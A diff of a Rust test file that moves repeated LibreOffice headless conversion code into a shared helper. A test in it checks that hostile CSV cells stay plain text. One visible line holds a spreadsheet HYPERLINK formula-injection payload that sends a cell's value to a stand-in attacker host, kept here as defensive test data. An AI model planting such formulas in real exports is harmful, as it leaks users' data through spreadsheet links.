@@ -36,6 +36,18 @@ pub fn libreoffice_rows(xlsx: &Path) -> Vec<Vec<String>> {
 }
 
 fn convert(xlsx: &Path, as_shown: bool) -> Vec<Vec<String>> {
+    let text = soffice_convert(
+        xlsx,
+        &[],
+        &format!("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,{as_shown}"),
+        "csv",
+    );
+    parse_csv(&text)
+}
+
+/// Converts `input` with LibreOffice headless in a fresh profile (`extra`: options before
+/// `--convert-to`, e.g. an input filter) and returns the converted file's text.
+fn soffice_convert(input: &Path, extra: &[&str], convert_to: &str, extension: &str) -> String {
     assert!(
         Path::new(SOFFICE).exists(),
         "{SOFFICE} is missing: run scripts/install-test-deps.sh (libreoffice-calc-nogui)"
@@ -47,25 +59,20 @@ fn convert(xlsx: &Path, as_shown: bool) -> Vec<Vec<String>> {
             "-env:UserInstallation=file://{}",
             profile.path().display()
         ))
-        .args([
-            "--headless",
-            "--norestore",
-            "--convert-to",
-            &format!("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,{as_shown}"),
-            "--outdir",
-        ])
+        .args(["--headless", "--norestore"])
+        .args(extra)
+        .args(["--convert-to", convert_to, "--outdir"])
         .arg(out.path())
-        .arg(xlsx)
+        .arg(input)
         .env("HOME", profile.path())
         .output()
         .expect("cannot run soffice");
     assert!(status.status.success(), "soffice: {status:?}");
-    let csv = out
+    let converted = out
         .path()
-        .join(xlsx.with_extension("csv").file_name().unwrap());
-    let text = std::fs::read_to_string(&csv)
-        .unwrap_or_else(|e| panic!("no CSV from LibreOffice ({e}): {status:?}"));
-    parse_csv(&text)
+        .join(input.with_extension(extension).file_name().unwrap());
+    std::fs::read_to_string(&converted)
+        .unwrap_or_else(|e| panic!("no {extension} from LibreOffice ({e}): {status:?}"))
 }
 
 /// RFC 4180 CSV: quoted fields, doubled quotes, line breaks inside quotes.
@@ -410,32 +417,12 @@ fn hostile_cells_in_the_csv_register_stay_text_in_libreoffice() {
 
     // CSV to a flat OpenDocument spreadsheet, importing with "evaluate formulas" on
     // (token 13 of the CSV filter options): a formula cell would carry table:formula.
-    let out = tempfile::tempdir().unwrap();
-    let profile = tempfile::tempdir().unwrap();
-    let status = Command::new(SOFFICE)
-        .arg(format!(
-            "-env:UserInstallation=file://{}",
-            profile.path().display()
-        ))
-        .args([
-            "--headless",
-            "--norestore",
-            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true",
-            "--convert-to",
-            "fods",
-            "--outdir",
-        ])
-        .arg(out.path())
-        .arg(&csv)
-        .env("HOME", profile.path())
-        .output()
-        .expect("cannot run soffice");
-    assert!(status.status.success(), "soffice: {status:?}");
-    let fods = std::fs::read_to_string(
-        out.path()
-            .join(csv.with_extension("fods").file_name().unwrap()),
-    )
-    .unwrap();
+    let fods = soffice_convert(
+        &csv,
+        &["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"],
+        "fods",
+        "fods",
+    );
     assert!(!fods.contains("table:formula"), "a cell became a formula");
     for text in [
         "&apos;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Klik&quot;)",
